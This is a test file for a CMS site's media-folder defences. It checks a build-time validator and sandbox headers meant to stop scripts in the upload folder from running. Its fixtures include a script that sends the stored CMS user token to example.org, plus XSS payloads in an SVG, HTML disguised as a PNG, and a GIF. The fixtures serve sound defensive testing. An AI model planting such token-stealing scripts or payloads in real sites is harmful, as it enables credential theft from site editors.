import { execFile } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { runInNewContext } from 'node:vm';
import { parse } from 'smol-toml';
import { afterEach, describe, expect, it } from 'vitest';
import { checkMediaFolder } from '../../scripts/cms-media.mjs';

// The editor's media folder is served from the public site's own origin: a file there that a
// browser runs as a page or script runs with the site's rights (it read an editor's GitHub
// token). So: no uploads in the editor, only images in the folder (checked at build), and a
// header policy under which nothing in the folder can run.
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d605f90000000049454e44ae426082', 'hex');
let dir: string | undefined;
afterEach(() => { if (dir) rmSync(dir, { recursive: true, force: true }); dir = undefined; });
const folder = (files: Record<string, Buffer | string>) => {
  dir = mkdtempSync(join(tmpdir(), 'ifg-media-'));
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  return dir;
};

describe('the media folder at build', () => {
  it('accepts images whose content is the type their name says', () => {
    expect(checkMediaFolder(folder({ 'logo.png': PNG, 'foto.jpg': Buffer.from('ffd8ffe000104a464946', 'hex') }))).toEqual([]);
  });

  it.each([
    ['steel.js', 'fetch("https://example.org/?t=" + localStorage.getItem("decap-cms-user"))'],
    ['pagina.html', '<script src="/media/steel.js"></script>'],
    ['tekening.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['vermomd.png', '<!doctype html><script>alert(1)</script>'],
    ['map/diep.gif', 'GIF89a<script>'],
    ['.htaccess', 'x'],
  ])('refuses %s with a Dutch message naming the file', (name, content) => {
    const problems = checkMediaFolder(folder({ [name]: content }), 'public/media');
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(new RegExp(`^public/media/${name.replace('.', '\\.')}: `));
  });

  it('stops the build (prebuild) on a script in public/media', async () => {
    const root = mkdtempSync(join(tmpdir(), 'ifg-media-root-'));
    dir = root;
    cpSync(resolve('scripts'), join(root, 'scripts'), { recursive: true });
    mkdirSync(join(root, 'public/media'), { recursive: true });
    writeFileSync(join(root, 'public/media/steel.js'), 'alert(1)');
    const failure = await promisify(execFile)(resolve('node_modules/.bin/node'), [join(root, 'scripts/cms-media.mjs')], { cwd: root }).then(() => null, (e) => e);
    expect(failure?.code).toBe(1);
    expect(failure?.stderr).toContain('public/media/steel.js: ');
  });
});

describe('the media path as served', () => {
  type Rule = { for: string; values: Record<string, string> };
  const toml = parse(readFileSync('netlify.toml', 'utf8')) as { headers: Rule[] };

  it('runs nothing: a sandbox policy that allows no script, and no type sniffing', () => {
    const media = toml.headers.find((rule) => rule.for === '/media/*');
    expect(media?.values['Content-Security-Policy']).toMatch(/^sandbox; default-src 'none'/);
    expect(media?.values['X-Content-Type-Options']).toBe('nosniff');
  });

  it('keeps that policy after the site-wide fallback in the header list given to Netlify (the later rule wins)', async () => {
    const root = mkdtempSync(join(tmpdir(), 'ifg-media-headers-'));
    dir = root;
    mkdirSync(join(root, '.netlify/v1'), { recursive: true });
    cpSync('netlify.toml', join(root, 'netlify.toml'));
    const fallback = { for: '/*', values: { 'Content-Security-Policy': "default-src 'self'; script-src 'self'" } };
    writeFileSync(join(root, '.netlify/v1/config.json'), JSON.stringify({ headers: [fallback] }));
    await promisify(execFile)(resolve('node_modules/.bin/node'), [resolve('scripts/cms-headers.mjs')], { cwd: root });
    const { headers } = JSON.parse(readFileSync(join(root, '.netlify/v1/config.json'), 'utf8')) as { headers: Rule[] };
    const last = (path: string) => headers.findLastIndex((h) => h.for === path);
    expect(last('/media/*')).toBeGreaterThan(last('/*'));
    expect(headers[last('/media/*')].values['Content-Security-Policy']).toMatch(/^sandbox; default-src 'none'/);
    expect(last('/admin/*')).toBeGreaterThan(last('/*'));
  });
});

describe('the editor without uploads (public/admin/no-uploads.js)', () => {
  it('registers the media library the settings name, with no Media page and nothing it can upload', () => {
    const registered: { name: string; init: () => Record<string, () => unknown> }[] = [];
    const alerts: string[] = [];
    runInNewContext(readFileSync('public/admin/no-uploads.js', 'utf8'), {
      window: { alert: (m: string) => alerts.push(m) },
      CMS: { registerMediaLibrary: (lib: (typeof registered)[number]) => registered.push(lib) },
    });
    expect(registered.map((r) => r.name)).toEqual(['geen-uploads']);
    const library = registered[0].init();
    expect(library.enableStandalone()).toBe(false);
    library.show();
    expect(alerts[0]).toMatch(/geen bestanden/i);
  });
});
